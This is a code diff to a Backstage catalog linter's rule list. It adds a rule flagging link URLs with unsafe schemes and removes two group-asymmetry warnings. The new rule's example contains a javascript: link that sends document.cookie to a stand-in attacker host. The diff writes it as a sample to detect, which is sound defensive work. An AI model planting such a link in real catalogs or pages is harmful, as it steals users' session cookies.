@@ -44053,6 +44053,7 @@ var rules = [
   { id: "policy", severity: "error", description: "An org policy schema in schemas/policy/ is violated; the rule id names the schema (policy/<name>).", example: "spec:\n  lifecycle: beta  # not in the allowed list" },
   // Annotations
   { id: "annotation-location-ref", severity: "error", description: "A location annotation (techdocs-ref, source-location\u2026) is not <type>:<target>.", example: "backstage.io/techdocs-ref: ./docs" },
+  { id: "link-url-scheme", severity: "error", description: "A URL Backstage shows as a link (metadata.links, a url: source-location, a Template's output links) uses a scheme no browser opens from a Backstage page: javascript: (Backstage's Link refuses it and the card shows an error; a plain link would run it), vbscript:, data:, file: or blob:.", example: "links:\n  - url: javascript:fetch(`//evil.example/${document.cookie}`)" },
   { id: "annotation-url", severity: "error", description: "A URL annotation is not an absolute http(s) URL.", example: "backstage.io/view-url: github.com/acme/x" },
   { id: "annotation-uuid", severity: "error", description: "An Entra ID / LDAP id annotation is not a UUID.", example: "graph.microsoft.com/group-id: platform" },
   { id: "annotation-project-slug", severity: "error", description: "github.com/project-slug or dev.azure.com/project-repo is not owner/name.", example: "github.com/project-slug: https://github.com/acme/x" },
@@ -44083,8 +44084,6 @@ var rules = [
   { id: "entity-duplicate", severity: "error", description: "The same entity ref (case-insensitive) is defined twice: in one file Backstage keeps the later document silently; across files the first location processed wins and the other is a conflict.", example: "# Component orders-api in two files" },
   { id: "group-cycle", severity: "error", description: "The group hierarchy loops back on itself.", example: "a.parent: b, b.parent: a" },
   { id: "group-multiple-parents", severity: "error", description: "A group ends up with more than one parent.", example: "a.parent: b, c.children: [a]" },
-  { id: "group-hierarchy-asymmetric", severity: "warning", description: "A group's parent does not list it among its children, or the reverse.", example: "a.parent: b, b.children: []" },
-  { id: "group-membership-asymmetric", severity: "warning", description: "A user's memberOf disagrees with the group's explicit members list.", example: "user.memberOf: [a], a.members: [someone-else]" },
   // Locations and reachability
   { id: "location-ignored", severity: "error", description: "A Location has the same ref as the Location that reads its file (refs ignore letter case, so kind: location counts too): Backstage ignores it (logged only), so nothing it targets is read.", example: "# catalog/all.yaml reads group/all.yaml; both define Location acme" },
   { id: "location-target-missing", severity: "error", description: "A Location target matches no file in the repo.", example: "spec:\n  targets: [./sytems/*.yaml]" },
